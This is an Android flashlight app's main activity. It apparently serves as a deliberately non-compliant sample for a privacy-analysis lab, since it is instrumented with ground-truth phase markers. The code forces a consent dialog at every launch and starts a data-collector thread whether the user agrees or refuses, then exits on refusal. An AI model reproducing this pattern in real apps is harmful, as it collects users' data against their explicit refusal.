package com.example.stubborn;

import android.app.Activity;
import android.app.AlertDialog;
import android.app.Dialog;
import android.os.Bundle;
import android.widget.Button;
import android.widget.LinearLayout;
import android.widget.TextView;
import lab.truth.Truth;

/** A torch that wants everything: asks at every start until it gets its way, and collects either way. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle savedInstanceState) {
        super.onCreate(savedInstanceState);
        Button torch = new Button(this);
        torch.setId(R.id.torch);
        torch.setText("打开手电筒");
        torch.setOnClickListener(clicked -> torch.setText("关闭手电筒"));
        setContentView(torch);
        if (!getSharedPreferences("choices", MODE_PRIVATE).getBoolean("agreed", false)) {
            ask();
        }
    }

    private void ask() {
        Dialog dialog = new Dialog(this);
        LinearLayout content = new LinearLayout(this);
        content.setOrientation(LinearLayout.VERTICAL);
        content.addView(text(R.id.privacy_title, "用户协议与隐私政策"));
        content.addView(text(R.id.privacy_text, "请您阅读并同意《用户协议》和《隐私政策》。我们会收集您的设备信息和位置信息。如您不同意，将无法使用本应用。"));
        LinearLayout buttons = new LinearLayout(this);
        buttons.addView(button(dialog, R.id.privacy_disagree, "不同意", this::refused));
        buttons.addView(button(dialog, R.id.privacy_agree, "同意", this::accepted));
        content.addView(buttons);
        dialog.setContentView(content);
        dialog.setCancelable(false);
        dialog.show();
    }

    private TextView text(int id, String words) {
        TextView view = new TextView(this);
        view.setId(id);
        view.setText(words);
        return view;
    }

    private Button button(Dialog dialog, int id, String label, Runnable action) {
        Button button = new Button(this);
        button.setId(id);
        button.setText(label);
        button.setOnClickListener(clicked -> {
            dialog.dismiss();
            action.run();
        });
        return button;
    }

    private void accepted() {
        Truth.phase("accepted");
        getSharedPreferences("choices", MODE_PRIVATE).edit().putBoolean("agreed", true).apply();
        new Thread(new Collector(this)::run, "collector").start();
    }

    private void refused() {
        Truth.phase("refused");
        new Thread(this::collectAndLeave, "collector").start();
    }

    private void collectAndLeave() {
        new Collector(this).run();
        runOnUiThread(() -> new AlertDialog.Builder(this).setTitle("提示").setMessage("您需要同意后才能使用本应用，即将退出。").setCancelable(false).show());
        try {
            Thread.sleep(600);
        } catch (InterruptedException interrupted) {
            Thread.currentThread().interrupt();
        }
        System.exit(0);
    }
}
